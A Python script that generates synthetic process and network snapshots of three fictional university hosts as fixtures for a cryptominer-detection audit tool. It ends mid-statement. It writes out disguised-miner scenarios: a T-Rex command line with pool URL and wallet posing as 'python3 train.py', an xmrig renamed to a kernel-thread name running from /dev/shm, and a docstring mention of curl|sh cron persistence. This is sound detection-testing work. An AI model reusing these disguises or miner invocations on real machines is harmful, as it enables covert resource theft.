"""Generate the demo snapshots in seeds/ deterministically: `python seeds/make_seeds.py`.

Three plausible university hosts, each a Snapshot JSON that validates against
audit_agent/schemas/snapshot.schema.json:

* gpu-lab-03: an 8-GPU lab server where a renamed T-Rex poses as `python3 train.py`
  (config-file pool, inside a Slurm job) and a second copy runs in a container;
* login-02: a shared login node with a renamed xmrig as `kworker/0:1` from /dev/shm
  (deleted executable, TLS pool on 443 from a config file, @reboot + curl|sh cron);
* cn-117: a compute node running filed blockchain research within its filed scale,
  and an allowlisted GPU burn-in test.

The numbers are made up but shaped like real hosts: kernel threads, system daemons,
SSH sessions, Slurm step daemons, containers. Addresses of "attackers" use the
documentation ranges (RFC 5737). Rerun after changing this file and commit both.
"""
from __future__ import annotations

import datetime as dt
import hashlib
import json
import math
import random
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
AGENT_VERSION = "0.1.0"
GiB = 1024 ** 3
MiB = 1024 ** 2
T_REX_WALLET = "RBX1G6nYDMHVtyaZiQWySMZw1Bb2DEDpT8"      # the example address of the T-Rex README
XMR_WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def epoch(text: str) -> float:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.timezone.utc).timestamp()


class Host:
    """Accumulates the parts of one Snapshot; `pid()` hands out plausible, increasing PIDs."""

    def __init__(self, name: str, seed: int, collected_at: str, window: float, threads: int) -> None:
        self.name = name
        self.rng = random.Random(seed)
        self.collected_at = epoch(collected_at)
        self.boot = self.collected_at - self.rng.randint(9, 60) * 86400 - self.rng.randint(0, 86000)
        self.window = window
        self.threads = threads
        self.processes: list[dict[str, Any]] = []
        self.connections: list[dict[str, Any]] = []
        self.next_pid = 2
        self.users: dict[str, int] = {"root": 0}

    def pid(self, jump: int = 1) -> int:
        self.next_pid += self.rng.randint(1, jump)
        return self.next_pid

    def uid(self, user: str) -> int:
        if user not in self.users:
            self.users[user] = {"slurm": 64030, "munge": 105, "messagebus": 101, "systemd-resolve": 990,
                                "systemd-timesync": 991, "chrony": 106, "syslog": 104, "nobody": 65534,
                                "nvidia-persistenced": 109, "prometheus": 998, "polkitd": 997,
                                "sssd": 113}.get(user, 20000 + len(self.users) * 7)
        return self.users[user]

    def proc(self, name: str, cmdline: list[str] | None = None, *, exe: str | None = None, user: str = "root",
             ppid: int = 1, cpu: float = 0.0, rss_mb: float = 8.0, threads: int = 1, pid: int | None = None,
             age_days: float | None = None, **extra: Any) -> dict[str, Any]:
        """One process; kernel threads are `kthread(...)`. cpu is % of one core over the window."""
        cmdline = [name] if cmdline is None else cmdline
        started = (self.boot + self.rng.uniform(1, 40) if age_days is None
                   else self.collected_at - age_days * 86400)
        entry = {
            "pid": pid if pid is not None else self.pid(5), "ppid": ppid, "name": name[:15],
            "exe": exe if exe is not None else (cmdline[0] if cmdline and cmdline[0].startswith("/") else ""),
            "cmdline": cmdline, "username": user, "uid": self.uid(user), "cwd": "/",
            "create_time": round(started, 2), "status": "running" if cpu > 50 else "sleeping",
            "nice": extra.pop("nice", 0), "num_threads": threads, "rss_bytes": int(rss_mb * MiB),
            "cpu_percent": round(cpu, 1), "cpu_seconds": round(cpu / 100 * self.window, 2),
            "allowed_cpus": extra.pop("allowed_cpus", self.threads), "terminal": extra.pop("terminal", ""),
            "cgroup": extra.pop("cgroup", "/system.slice"), "container_id": extra.pop("container_id", ""),
            "slurm_job_id": extra.pop("slurm_job_id", ""), "environ": extra.pop("environ", {}),
            "exe_deleted": extra.pop("exe_deleted", False), "ns_pids": extra.pop("ns_pids", None),
            "anon_hugepages_bytes": extra.pop("anon_hugepages_bytes", None), "hidden": False, "denied": [],
        }
        entry.update(extra)
        if entry["ns_pids"] is None:
            entry["ns_pids"] = [entry["pid"]]
        self.processes.append(entry)
        return entry

    def kthread(self, name: str) -> None:
        self.processes.append({
            "pid": self.pid(2), "ppid": 2, "name": name[:15], "exe": "", "cmdline": [], "username": "root",
            "uid": 0, "cwd": "/", "create_time": round(self.boot + self.rng.uniform(0, 5), 2),
            "status": "idle", "nice": 0, "num_threads": 1, "rss_bytes": 0, "cpu_percent": 0.0,
            "cpu_seconds": 0.0, "allowed_cpus": 1, "terminal": "", "cgroup": "/", "container_id": "",
            "slurm_job_id": "", "environ": {}, "exe_deleted": False, "ns_pids": [], "anon_hugepages_bytes": None,
            "hidden": False, "denied": []})

    def conn(self, pid: int | None, local: str, lport: int, remote: str, rport: int, state: str = "ESTABLISHED",
             protocol: str = "tcp", sent: int | None = None, received: int | None = None) -> None:
        self.connections.append({"pid": pid, "protocol": protocol, "local_address": local, "local_port": lport,
                                 "remote_address": remote, "remote_port": rport, "state": state,
                                 "bytes_sent": sent, "bytes_received": received})

    def listen(self, pid: int, port: int, address: str = "0.0.0.0", protocol: str = "tcp") -> None:
        self.conn(pid, address, port, "", 0, state="LISTEN" if protocol.startswith("tcp") else "NONE",
                  protocol=protocol)

    def ephemeral(self) -> int:
        return self.rng.randint(32768, 60999)

    # ------------------------------------------------------------------ shared pieces

    def kernel(self, extra: list[str] = ()) -> None:
        self.next_pid = 1
        self.kthread("kthreadd")
        self.processes[-1]["pid"], self.processes[-1]["ppid"] = 2, 0
        self.next_pid = 2
        for name in ["rcu_gp", "rcu_par_gp", "slub_flushwq", "netns", "mm_percpu_wq", "rcu_tasks_kthread",
                     "rcu_tasks_rude_kthread", "rcu_tasks_trace_kthread", "rcu_preempt"]:
            self.kthread(name)
        cpus = min(self.threads, 24)         # not every per-CPU thread: the listing stays readable
        for cpu in range(cpus):
            for name in (f"cpuhp/{cpu}", f"migration/{cpu}", f"ksoftirqd/{cpu}", f"kworker/{cpu}:0H-events_highpri"):
                self.kthread(name)
        for name in ["kdevtmpfs", "inet_frag_wq", "kauditd", "khungtaskd", "oom_reaper", "writeback",
                     "kcompactd0", "kcompactd1", "ksmd", "khugepaged", "kintegrityd", "kblockd", "blkcg_punt_bio",
                     "kswapd0", "kswapd1", "kthrotld", "acpi_thermal_pm", "scsi_eh_0", "scsi_tmf_0", "nvme-wq",
                     "nvme-reset-wq", "nvme-delete-wq", "ipv6_addrconf", "kstrp", "zswap-shrink", "jbd2/nvme0n1p2-8",
                     "ext4-rsv-conver", "irq/123-mlx5_async", "mlx5_health0000", "mlx5_page_allocator",
                     "ib-comp-wq", "ib-comp-unb-wq", "ib_mcast", "ib_nl_sa_wq", "rpciod", "xprtiod", "nfsiod",
                     "kworker/u130:1-rpciod", "kworker/3:2-events", "kworker/7:1-mm_percpu_wq",
                     "kworker/0:1-events", "kworker/12:0-cgroup_destroy", *extra]:
            self.kthread(name)

    def system(self, *, slurm: bool = True, nvidia: bool = False,
               docker: bool = False) -> dict[str, dict[str, Any]]:
        """Daemons every university Linux host runs; returns the ones others attach to."""
        self.next_pid = max(self.next_pid, 380)
        d: dict[str, dict[str, Any]] = {}
        d["systemd"] = self.proc("systemd", ["/sbin/init", "splash"], exe="/usr/lib/systemd/systemd", pid=1, ppid=0,
                                 rss_mb=13, cgroup="/init.scope")
        d["journald"] = self.proc("systemd-journal", ["/lib/systemd/systemd-journald"],
                                  exe="/usr/lib/systemd/systemd-journald", rss_mb=96,
                                  cgroup="/system.slice/systemd-journald.service", cpu=0.4)
        self.proc("systemd-udevd", ["/lib/systemd/systemd-udevd"], exe="/usr/lib/systemd/systemd-udevd", rss_mb=11,
                  cgroup="/system.slice/systemd-udevd.service")
        self.proc("systemd-resolve", ["/lib/systemd/systemd-resolved"], exe="/usr/lib/systemd/systemd-resolved",
                  user="systemd-resolve", rss_mb=14, cgroup="/system.slice/systemd-resolved.service")
        self.proc("systemd-timesyn", ["/lib/systemd/systemd-timesyncd"], exe="/usr/lib/systemd/systemd-timesyncd",
                  user="systemd-timesync", rss_mb=7, threads=2, cgroup="/system.slice/systemd-timesyncd.service")
        for name, argv, user, rss in [
            ("auditd", ["/sbin/auditd"], "root", 4), ("irqbalance", ["/usr/sbin/irqbalance", "--foreground"], "root", 4),
            ("dbus-daemon", ["@dbus-daemon", "--system", "--address=systemd:", "--nofork", "--nopidfile",
                             "--systemd-activation", "--syslog-only"], "messagebus", 6),
            ("polkitd", ["/usr/libexec/polkitd", "--no-debug"], "polkitd", 11),
            ("rsyslogd", ["/usr/sbin/rsyslogd", "-n", "-iNONE"], "syslog", 8),
            ("systemd-logind", ["/lib/systemd/systemd-logind"], "root", 8),
            ("chronyd", ["/usr/sbin/chronyd", "-F", "1"], "chrony", 3),
            ("cron", ["/usr/sbin/cron", "-f", "-P"], "root", 3),
            ("atd", ["/usr/sbin/atd", "-f"], "root", 2),
            ("sssd", ["/usr/sbin/sssd", "-i", "--logger=files"], "root", 22),
            ("sssd_be", ["/usr/libexec/sssd/sssd_be", "--domain", "campus.example", "--uid", "0", "--gid", "0",
                         "--logger=files"], "root", 48),
            ("sssd_nss", ["/usr/libexec/sssd/sssd_nss", "--uid", "0", "--gid", "0", "--logger=files"], "root", 40),
            ("sssd_pam", ["/usr/libexec/sssd/sssd_pam", "--uid", "0", "--gid", "0", "--logger=files"], "root", 19),
            ("lldpd", ["lldpd: monitor."], "root", 3), ("lldpd", ["lldpd: no neighbor."], "_lldpd", 3),
            ("rpcbind", ["/sbin/rpcbind", "-f", "-w"], "_rpc", 3),
            ("rpc.statd", ["/sbin/rpc.statd"], "statd", 3),
            ("rpc.idmapd", ["/usr/sbin/rpc.idmapd"], "root", 2),
            ("munged", ["/usr/sbin/munged", "--foreground"], "munge", 5),
            ("node_exporter", ["/usr/local/bin/node_exporter", "--collector.textfile.directory=/var/lib/node_exporter",
                               "--collector.systemd"], "prometheus", 32),
            ("zabbix_agent2", ["/usr/sbin/zabbix_agent2", "-c", "/etc/zabbix/zabbix_agent2.conf"], "zabbix", 38),
            ("multipathd", ["/sbin/multipathd", "-d", "-s"], "root", 27),
            ("agetty", ["/sbin/agetty", "-o", "-p -- \\u", "--noclear", "tty1", "linux"], "root", 2),
            ("agetty", ["/sbin/agetty", "-o", "-p -- \\u", "--keep-baud", "115200,57600,38400,9600", "ttyS0",
                        "vt220"], "root", 2),
            ("unattended-upgr", ["/usr/bin/python3", "/usr/share/unattended-upgrades/unattended-upgrade-shutdown",
                                 "--wait-for-signal"], "root", 23),
            ("networkd-dispat", ["/usr/bin/python3", "/usr/bin/networkd-dispatcher", "--run-startup-triggers"],
             "root", 21),
            ("systemd-network", ["/lib/systemd/systemd-networkd"], "systemd-network", 9),
            ("nslcd", ["/usr/sbin/nslcd"], "nslcd", 5),
            ("smartd", ["/usr/sbin/smartd", "-n"], "root", 5),
            ("ipmievd", ["/usr/sbin/ipmievd", "sel", "daemon"], "root", 2),
            ("rasdaemon", ["/usr/sbin/rasdaemon", "-f", "-r"], "root", 9),
            ("opensm", ["/usr/sbin/opensm", "-g", "0x0c42a1030069c1e2"], "root", 12),
        ]:
            d.setdefault(name, self.proc(name, argv, exe=argv[0] if argv[0].startswith("/") else
                                         f"/usr/sbin/{name}", user=user, rss_mb=rss,
                                         cgroup=f"/system.slice/{name.split('_')[0]}.service",
                                         threads=self.rng.choice([1, 1, 2, 3, 7])))
        d["sshd"] = self.proc("sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
                              exe="/usr/sbin/sshd", rss_mb=9, cgroup="/system.slice/ssh.service")
        self.listen(d["sshd"]["pid"], 22)
        self.listen(d["sshd"]["pid"], 22, "::", "tcp6")
        self.listen(d["node_exporter"]["pid"], 9100, "::", "tcp6")
        self.conn(d["node_exporter"]["pid"], "10.20.8.31", 9100, "10.20.0.12", self.ephemeral(), sent=88213)
        self.listen(d["zabbix_agent2"]["pid"], 10050)
        self.conn(d["zabbix_agent2"]["pid"], "10.20.8.31", self.ephemeral(), "10.20.0.14", 10051)
        self.conn(d["chronyd"]["pid"], "10.20.8.31", 123, "10.20.0.2", 123, state="NONE", protocol="udp")
        self.conn(d["sssd_be"]["pid"], "10.20.8.31", self.ephemeral(), "10.20.0.20", 636)
        self.conn(d["systemd-resolve"]["pid"] if "systemd-resolve" in d else None, "127.0.0.53", 53, "", 0,
                  state="NONE", protocol="udp")
        self.listen(d["rpcbind"]["pid"], 111)
        self.conn(None, "10.20.8.31", 897, "10.20.0.40", 2049)          # NFS home, kernel-owned socket
        self.conn(None, "10.20.8.31", 721, "10.20.0.41", 2049)          # NFS scratch
        if slurm:
            d["slurmd"] = self.proc("slurmd", ["/usr/sbin/slurmd", "--systemd"], exe="/usr/sbin/slurmd", rss_mb=18,
                                    threads=3, cgroup="/system.slice/slurmd.service")
            self.listen(d["slurmd"]["pid"], 6818)
            self.conn(d["slurmd"]["pid"], "10.20.8.31", self.ephemeral(), "10.20.0.10", 6817)
        if nvidia:
            d["nvidia-persistenced"] = self.proc(
                "nvidia-persiste", ["/usr/bin/nvidia-persistenced", "--user", "nvidia-persistenced",
                                    "--no-persistence-mode", "--verbose"],
                exe="/usr/bin/nvidia-persistenced", user="nvidia-persistenced", rss_mb=5,
                cgroup="/system.slice/nvidia-persistenced.service")
            d["nv-hostengine"] = self.proc("nv-hostengine", ["/usr/bin/nv-hostengine", "-n", "--service-account",
                                                             "nvidia-dcgm"], exe="/usr/bin/nv-hostengine",
                                           user="nvidia-dcgm", rss_mb=61, threads=9, cpu=0.7,
                                           cgroup="/system.slice/nvidia-dcgm.service")
            for index in range(8):
                self.kthread(f"irq/{157 + index}-nvidia")
            self.kthread("nvidia-modeset/kthread_q")
            self.kthread("nv_queue")
            self.kthread("nv_open_q")
        if docker:
            d["containerd"] = self.proc("containerd", ["/usr/bin/containerd"], exe="/usr/bin/containerd",
                                        rss_mb=54, threads=22, cgroup="/system.slice/containerd.service")
            d["dockerd"] = self.proc("dockerd", ["/usr/bin/dockerd", "-H", "fd://",
                                                 "--containerd=/run/containerd/containerd.sock"],
                                     exe="/usr/bin/dockerd", rss_mb=92, threads=31, cgroup="/system.slice/docker.service")
        d["systemd-user"] = d["systemd"]
        return d

    def ssh_session(self, user: str, sshd: dict[str, Any], tty: int, client: str,
                    work: list[tuple[str, list[str], float]] = ()) -> dict[str, Any]:
        """sshd privsep pair, the login shell, and what the user runs in it; returns the shell."""
        priv = self.proc("sshd", [f"sshd: {user} [priv]"], exe="/usr/sbin/sshd", ppid=sshd["pid"], rss_mb=10,
                         cgroup=f"/user.slice/user-{self.uid(user)}.slice/session-{tty + 311}.scope",
                         age_days=self.rng.uniform(0.01, 3))
        child = self.proc("sshd", [f"sshd: {user}@pts/{tty}"], exe="/usr/sbin/sshd", user=user, ppid=priv["pid"],
                          rss_mb=7, cgroup=priv["cgroup"], age_days=self.rng.uniform(0.01, 3))
        self.conn(child["pid"], "10.20.8.31", 22, client, self.ephemeral(), sent=self.rng.randint(10 ** 5, 10 ** 7))
        shell = self.proc("bash", ["-bash"], exe="/usr/bin/bash", user=user, ppid=child["pid"], rss_mb=5,
                          terminal=f"pts/{tty}", cgroup=priv["cgroup"], cwd=f"/home/{user}",
                          age_days=self.rng.uniform(0.01, 3))
        for name, argv, cpu in work:
            self.proc(name, argv, exe=argv[0] if argv[0].startswith("/") else f"/usr/bin/{name}", user=user,
                      ppid=shell["pid"], cpu=cpu, rss_mb=self.rng.uniform(4, 300), terminal=f"pts/{tty}",
                      cgroup=priv["cgroup"], cwd=f"/home/{user}", age_days=self.rng.uniform(0.001, 1))
        return shell

    def user_manager(self, user: str) -> None:
        uid = self.uid(user)
        self.proc("systemd", ["/lib/systemd/systemd", "--user"], exe="/usr/lib/systemd/systemd", user=user,
                  rss_mb=10, cgroup=f"/user.slice/user-{uid}.slice/user@{uid}.service/init.scope")
        self.proc("(sd-pam)", ["(sd-pam)"], exe="/usr/lib/systemd/systemd", user=user, rss_mb=5,
                  cgroup=f"/user.slice/user-{uid}.slice/user@{uid}.service/init.scope")

    def slurm_job(self, slurmd: dict[str, Any], job: str, user: str, argv: list[str], *, cpu: float,
                  threads: int, cpus: int, rss_gb: float, name: str | None = None, exe: str | None = None,
                  environ: dict[str, str] | None = None, cwd: str = "") -> dict[str, Any]:
        cgroup = f"/system.slice/slurmstepd.scope/job_{job}/step_batch/user/task_0"
        step = self.proc("slurmstepd", [f"slurmstepd: [{job}.batch]"], exe="/usr/sbin/slurmstepd",
                         ppid=1, rss_mb=6, threads=4, cgroup=f"/system.slice/slurmstepd.scope/job_{job}/step_batch/slurm",
                         age_days=self.rng.uniform(0.05, 2))
        script = self.proc("bash", ["/bin/bash", f"/var/spool/slurmd/job{job}/slurm_script"], exe="/usr/bin/bash",
                           user=user, ppid=step["pid"], rss_mb=4, cgroup=cgroup, slurm_job_id=job,
                           environ={"SLURM_JOB_ID": job}, age_days=self.rng.uniform(0.05, 2))
        return self.proc(name or argv[0].rsplit("/", 1)[-1], argv, exe=exe, user=user, ppid=script["pid"], cpu=cpu,
                         threads=threads, allowed_cpus=cpus, rss_mb=rss_gb * 1024, cgroup=cgroup,
                         slurm_job_id=job, environ={"SLURM_JOB_ID": job, **(environ or {})},
                         cwd=cwd or f"/home/{user}", age_days=self.rng.uniform(0.04, 1.5))

    def load(self, gpu_means: list[float], step: float = 2.0) -> list[dict[str, Any]]:
        """Whole-host samples whose mean matches what the visible processes use (nothing hidden here)."""
        cpu_mean = sum(p["cpu_percent"] for p in self.processes) / self.threads + 0.4
        samples = []
        t = 0.0
        while t <= self.window + 1e-9:
            wobble = math.sin(t / 7.0) * min(2.5, cpu_mean / 4)
            cpu = max(0.0, min(100.0, cpu_mean + wobble + self.rng.uniform(-1.0, 1.0) * min(2.0, cpu_mean / 4)))
            gpus = [max(0.0, min(100.0, g + (self.rng.uniform(-3, 1) if g > 50 else self.rng.uniform(0, 2))))
                    for g in gpu_means]
            samples.append({"t": round(t, 1), "cpu_percent": round(cpu, 1), "gpu_percent": [round(g) for g in gpus]})
            t += step
        return samples

    def snapshot(self, host: dict[str, Any], gpus: list[dict[str, Any]], load: list[dict[str, Any]],
                 coverage: list[dict[str, Any]], **parts: Any) -> dict[str, Any]:
        host = {"hostname": self.name, "os": "Linux", "arch": "x86_64", "boot_time": round(self.boot, 1),
                "uptime_seconds": round(self.collected_at - self.boot, 1), **host, "gpus": gpus}
        visible = sum(p["cpu_percent"] for p in self.processes)
        system = visible + 0.1 * self.threads       # kernel and interrupt time: a little, never a hidden miner
        stealth = {"ld_so_preload": [], "self_preloaded_libraries": [], "hidden_pids": [], "proc_bind_mounts": [],
                   "proc_hidepid": "", "hugepages_total": 0, "hugepage_size_kb": 2048, "msr_loaded": False,
                   "msr_allow_writes": "", "nmi_watchdog": 1, "system_cpu_percent": round(system, 1),
                   "visible_cpu_percent": round(visible, 1),
                   "unexplained_cpu_percent": round(max(0.0, system - visible), 1)}
        stealth.update(parts.pop("stealth", {}))
        return {"schema_version": "1.0", "agent_version": AGENT_VERSION, "collected_at": self.collected_at,
                "window_seconds": self.window, "host": host, "processes": self.processes,
                "connections": self.connections, "gpus": gpus, "binaries": parts.pop("binaries", []),
                "configs": parts.pop("configs", []), "stealth": stealth,
                "persistence": parts.pop("persistence", []), "load": load, "coverage": coverage}


def gpu(index: int, name: str, memory_gb: int, driver: str, util: float, procs: list[tuple[int, float]],
        seed: str) -> dict[str, Any]:
    uuid = hashlib.sha256(f"{seed}{index}".encode()).hexdigest()
    return {"index": index, "name": name, "uuid": f"GPU-{uuid[:8]}-{uuid[8:12]}-{uuid[12:16]}-{uuid[16:20]}-{uuid[20:32]}",
            "vendor": "nvidia", "driver": driver, "memory_total_bytes": memory_gb * GiB,
            "memory_used_bytes": int(sum(mem for _, mem in procs) * GiB) + 4 * MiB,
            "utilization_percent": util, "utilization_samples": [util] * 3,
            "processes": [{"pid": pid, "name": "", "used_memory_bytes": int(mem * GiB)} for pid, mem in procs]}


def full_coverage(processes: int, connections: int, denied: int = 0, gpu_status: str = "ok",
                  gpu_reasons: tuple[str, ...] = ("gpu_backend",), extra: list[dict[str, Any]] = (),
                  executables: int = 0, configs: int = 0, files: int = 0, entries: int = 0,
                  busy: int = 0) -> list[dict[str, Any]]:
    """Every check a live scan reports, with its reasons as codes (audit_agent.collect.coverage), so the
    demo reports show what a real host's report shows, in both languages."""
    from audit_agent.collect.coverage import because, coverage
    from audit_agent.model import CoverageStatus as S, to_dict
    gpu_facts = {"backend": "nvml"}
    entries_ = [
        coverage("host", S.OK, inspected=1),
        coverage("processes", S.OK, inspected=processes, denied=denied),
        coverage("network", S.OK, inspected=connections),
        coverage("gpu", S(gpu_status), *[because(code, **({} if code.startswith(("nvml_", "no_nvidia_smi"))
                                                           else gpu_facts)) for code in gpu_reasons],
                 inspected=2 if gpu_status == "ok" else 0),
        coverage("stealth", S.OK, inspected=1),
        coverage("hidden-processes", S.OK, because("pids_probed_all", pid_max=4194304 // 128)),
        coverage("binaries", S.OK, inspected=executables),
        coverage("configs", S.OK, inspected=configs),
        coverage("libraries", S.OK, inspected=busy),
        coverage("persistence", S.OK, because("entries_read", entries=entries, files=files), inspected=files),
    ]
    return [to_dict(entry) for entry in entries_] + list(extra)


# ---------------------------------------------------------------------- the three hosts


def gpu_lab() -> dict[str, Any]:
    h = Host("gpu-lab-03", seed=3, collected_at="2026-11-24T12:15:00", window=60.0, threads=256)
    h.kernel()
    d = h.system(nvidia=True, docker=True)
    for user in ("liuyang", "chenyu", "sunmin", "hpcadmin"):
        h.user_manager(user)
    h.ssh_session("hpcadmin", d["sshd"], 0, "10.20.1.15", [("htop", ["htop"], 1.3)])
    h.ssh_session("sunmin", d["sshd"], 1, "10.30.44.102", [
        ("tmux: server", ["tmux", "new", "-s", "exp"], 0.0),
        ("nvtop", ["nvtop"], 0.8)])
    shell = h.ssh_session("liuyang", d["sshd"], 2, "10.30.44.87")
    h.proc("jupyter-lab", ["/home/liuyang/miniconda3/envs/nlp/bin/python", "/home/liuyang/miniconda3/envs/nlp/bin/jupyter-lab",
                           "--no-browser", "--port=8890"], user="liuyang", ppid=shell["pid"], rss_mb=210, threads=4,
           cgroup="/user.slice/user-20007.slice/session-313.scope", cpu=0.4)
    # A legitimate 2-GPU DDP fine-tuning job (GPUs 6 and 7), in Slurm job 88390.
    ddp = h.slurm_job(d["slurmd"], "88390", "liuyang",
                      ["/home/liuyang/miniconda3/envs/nlp/bin/python", "-m", "torch.distributed.run", "--nproc_per_node=2",
                       "finetune.py", "--model", "qwen2-7b", "--data", "/scratch/liuyang/corpus", "--bf16"],
                      name="python", cpu=101.0, threads=12, cpus=16, rss_gb=6.1)
    workers = [h.proc("python", ["/home/liuyang/miniconda3/envs/nlp/bin/python", "-u", "finetune.py", f"--local_rank={r}",
                                 "--model", "qwen2-7b", "--data", "/scratch/liuyang/corpus", "--bf16"],
                      user="liuyang", ppid=ddp["pid"], cpu=98.0 + r, threads=36, allowed_cpus=16, rss_mb=21000,
                      cgroup=ddp["cgroup"], slurm_job_id="88390", environ={"SLURM_JOB_ID": "88390"})
               for r in range(2)]
    for r in range(6):
        h.proc("pt_data_worker", ["/home/liuyang/miniconda3/envs/nlp/bin/python", "-u", "finetune.py"], user="liuyang",
               ppid=workers[r % 2]["pid"], cpu=22.0, threads=2, allowed_cpus=16, rss_mb=2400, cgroup=ddp["cgroup"],
               slurm_job_id="88390")
    # The disguise: T-Rex renamed to python3 in a fake virtualenv, pool and wallet in a JSON config,
    # submitted as Slurm job 88412 "resnet152-imagenet" by a student account.
    miner = h.slurm_job(d["slurmd"], "88412", "chenyu",
                        ["python3", "train.py", "--config", "configs/imagenet_resnet152.json"],
                        name="python3", exe="/home/chenyu/resnet/.venv/bin/python3", cpu=46.0, threads=18,
                        cpus=8, rss_gb=1.3, cwd="/home/chenyu/resnet")
    h.conn(miner["pid"], "10.20.8.31", h.ephemeral(), "198.51.100.77", 6060, sent=1_803_220, received=9_611_003)
    # ...and a sloppier copy in a container on GPUs 4-5, arguments in plain sight.
    shim = h.proc("containerd-shim", ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id",
                                      "4b1d2f0c9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c", "-address",
                                      "/run/containerd/containerd.sock"], exe="/usr/bin/containerd-shim-runc-v2",
                  threads=11, rss_mb=12, cgroup="/system.slice/containerd.service")
    container = "4b1d2f0c9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c"
    boxed = h.proc("python3", ["python3", "train.py", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u",
                               f"{T_REX_WALLET}.gpu03", "-p", "x", "--api-bind-http", "0", "-d", "0,1"],
                   exe="/workspace/python3", user="root", ppid=shim["pid"], cpu=31.0, threads=14, rss_mb=900,
                   cgroup=f"/system.slice/docker-{container}.scope", container_id=container, ns_pids=None, cwd="/workspace")
    boxed["ns_pids"] = [boxed["pid"], 7]
    h.conn(boxed["pid"], "172.17.0.2", h.ephemeral(), "198.51.100.77", 6060, sent=655_120, received=3_400_211)
    # Ordinary background work of a busy lab server.
    for user, argv, cpu in [
        ("sunmin", ["/usr/bin/rsync", "-a", "--partial", "/scratch/sunmin/ckpt/", "storage01:/backup/sunmin/"], 4.1),
        ("sunmin", ["/home/sunmin/.conda/envs/rl/bin/python", "-m", "tensorboard.main", "--logdir", "runs", "--port",
                    "6007"], 0.6),
        ("root", ["/usr/bin/python3", "/usr/bin/dcgm-exporter-wrapper", "--collectors",
                  "/etc/dcgm-exporter/default-counters.csv"], 0.9)]:
        h.proc(argv[0].rsplit("/", 1)[-1], argv, user=user, cpu=cpu, rss_mb=160)
    filler_users = ["wangjing", "zhaoqi", "liuyang", "sunmin"]
    while len(h.processes) < 300:
        user = h.rng.choice(filler_users)
        h.ssh_session(user, d["sshd"], len(h.processes) % 40 + 3, f"10.30.{h.rng.randint(1, 90)}.{h.rng.randint(2, 250)}",
                      [("vim", ["vim", "train.py"], 0.0), ("watch", ["watch", "-n", "2", "nvidia-smi"], 0.2)])
    gpus = [gpu(i, "NVIDIA A100-SXM4-80GB", 80, "550.127.05", 99.0 if i < 6 else 96.0,
                [(miner["pid"], 5.2)] if i < 4 else [(boxed["pid"], 5.2)] if i < 6 else [(workers[i - 6]["pid"], 61.7)],
                "gpu-lab-03") for i in range(8)]
    configs = [{"path": "/home/chenyu/resnet/configs/imagenet_resnet152.json", "pids": [miner["pid"]],
                "urls": ["stratum+tcp://rvn.2miners.com:6060"], "users": [f"{T_REX_WALLET}.lab03"],
                "keys": ["pools", "algo", "devices", "api-bind-http", "pl"], "algorithms": ["kawpow"]}]
    binaries = [{"path": "/home/chenyu/resnet/.venv/bin/python3", "pids": [miner["pid"]],
                 "sha256": hashlib.sha256(b"t-rex 0.26.8 renamed").hexdigest(), "size_bytes": 19_874_816,
                 "scanned_bytes": 19_874_816, "matched_strings": ["T-Rex NVIDIA GPU miner", "kawpow", "stratum+tcp://"],
                 "engine": "builtin", "error": ""}]
    load = h.load(gpu_means=[99, 99, 99, 99, 99, 99, 96, 96])
    coverage = full_coverage(len(h.processes), len(h.connections), executables=88, configs=5, files=31, entries=57,
                             busy=12)
    return h.snapshot({"os_release": "Ubuntu 22.04.5 LTS", "kernel": "5.15.0-126-generic",
                       "cpu_model": "AMD EPYC 7763 64-Core Processor", "cpu_sockets": 2, "cpu_cores": 128,
                       "cpu_threads": 256, "memory_total_bytes": 1024 * GiB},
                      gpus, load, coverage, configs=configs, binaries=binaries)


def login_node() -> dict[str, Any]:
    h = Host("login-02", seed=2, collected_at="2026-11-24T13:40:00", window=30.0, threads=128)
    h.kernel()
    d = h.system(slurm=False)
    users = ["wangfang", "lihua", "zhangwei", "liuyang", "chenjie", "yangli", "zhaolei", "huangmin", "zhouxin",
             "wuhao", "xuyan", "sunqiang", "mali", "zhujun", "hujing", "guoyong", "heping", "linna"]
    for user in users:
        h.user_manager(user)
    chores = [
        ("vim", ["vim", "job.sbatch"], 0.0), ("squeue", ["/usr/bin/squeue", "-u", "$USER"], 0.3),
        ("tmux: server", ["tmux", "attach", "-t", "main"], 0.1), ("less", ["less", "slurm-88231.out"], 0.0),
        ("make", ["make", "-j4"], 12.0), ("cc1plus", ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "-quiet", "solver.cpp"], 97.0),
        ("git", ["git", "pull", "--rebase"], 2.0), ("python3", ["python3", "plot_results.py"], 35.0),
        ("sftp-server", ["/usr/lib/openssh/sftp-server"], 1.2), ("top", ["top"], 0.6),
        ("module", ["/usr/bin/tclsh", "/usr/share/modules/libexec/modulecmd.tcl", "bash", "load", "gcc/12.2"], 0.0)]
    tty = 0
    while len(h.processes) < 360:
        user = users[tty % len(users)]
        work = h.rng.sample(chores, h.rng.randint(1, 3))
        h.ssh_session(user, d["sshd"], tty, f"10.{h.rng.choice([30, 31, 40])}.{h.rng.randint(1, 90)}.{h.rng.randint(2, 250)}",
                      work)
        tty += 1
    # The compromised account: xmrig renamed to a kernel-thread name, run from /dev/shm and deleted,
    # pool on 443 over TLS in a config file next to it; @reboot and curl|sh cron entries bring it back.
    miner = h.proc("kworker/0:1", ["kworker/0:1"], exe="/dev/shm/.x/kworker (deleted)", user="wangfang", ppid=1,
                   cpu=1480.0, threads=17, allowed_cpus=64, rss_mb=2350, exe_deleted=True,
                   cgroup="/user.slice/user-20007.slice/session-c4.scope", cwd="/dev/shm/.x",
                   anon_hugepages_bytes=2 * GiB + 8 * MiB, nice=19, age_days=2.3)
    h.conn(miner["pid"], "10.20.8.31", h.ephemeral(), "203.0.113.45", 443, sent=2_211_430, received=12_088_914)
    configs = [{"path": "/dev/shm/.x/config.json", "pids": [miner["pid"]],
